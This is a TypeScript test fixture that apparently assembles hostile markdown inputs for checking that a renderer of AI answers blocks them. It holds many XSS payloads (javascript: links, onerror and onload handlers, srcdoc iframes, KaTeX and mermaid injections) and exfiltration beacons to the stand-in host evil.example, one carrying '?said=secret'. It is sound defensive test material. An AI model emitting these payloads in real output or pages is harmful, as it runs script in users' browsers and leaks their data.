// What an answer could hold that wants out: script that would raise the flag, and addresses of a
// host that would hear of it. The renderer's own collection of attacks comes along.
import { ATTACKS } from '../../src/markdown/corpus';
import { FLAG } from './witness';

const script = `${FLAG}()`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="https://evil.example/svg.png"/></svg>`;
const svgData = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
const page = `<script>parent.${script};top.postMessage({type:'sign-out'},'*')</script>`;

const OWN = [
  `[click me](javascript:${script})`,
  `[click me](data:text/html,${encodeURIComponent(page)})`,
  `<img src=x onerror=${script}>`,
  `<svg/onload=${script}>`,
  `<iframe srcdoc="${page}"></iframe>`,
  '<iframe src="https://evil.example/frame"></iframe>',
  `<details open ontoggle=${script}><summary>x</summary></details>`,
  `<input autofocus onfocus=${script}>`,
  `<video src=x onerror=${script} poster=https://evil.example/poster.png></video>`,
  `![a picture](${svgData})`,
  `![leak](https://evil.example/leak.png?said=secret)`,
  '![leak](http://127.0.0.1:9/leak.png)',
  '![leak](//evil.example/leak.png)',
  `<link rel="preconnect" href="https://evil.example"><link rel="prefetch" href="https://evil.example/p">`,
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `$$\\href{javascript:${script}}{\\text{click me}}$$`,
  '$$\\includegraphics{https://evil.example/katex.png}$$',
  `$$\\html@mathml{<img src=x onerror=${script}>}{x}$$`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script}>"]-->B["<script>${script}</script>"]\nclick A "javascript:${script}"\nclick B call ${FLAG}()\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/m.css);", "htmlLabels": true}}%%\ngraph TD; A["<iframe src=https://evil.example/m></iframe>"]-->B\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\nparticipant A as <img src=x onerror=${script}>\nlink A: x @ javascript:${script}\nA->>A: hi\n\`\`\``,
  `\`\`\`html\n${page}\n\`\`\``,
  `\`\`\`"onmouseover="${script}\nx\n\`\`\``,
];

/** All of them, with `alert(1)` turned into the flag. */
export const HOSTILE: readonly string[] = [...OWN, ...ATTACKS.map((attack) => attack.replaceAll('alert(1)', script))];
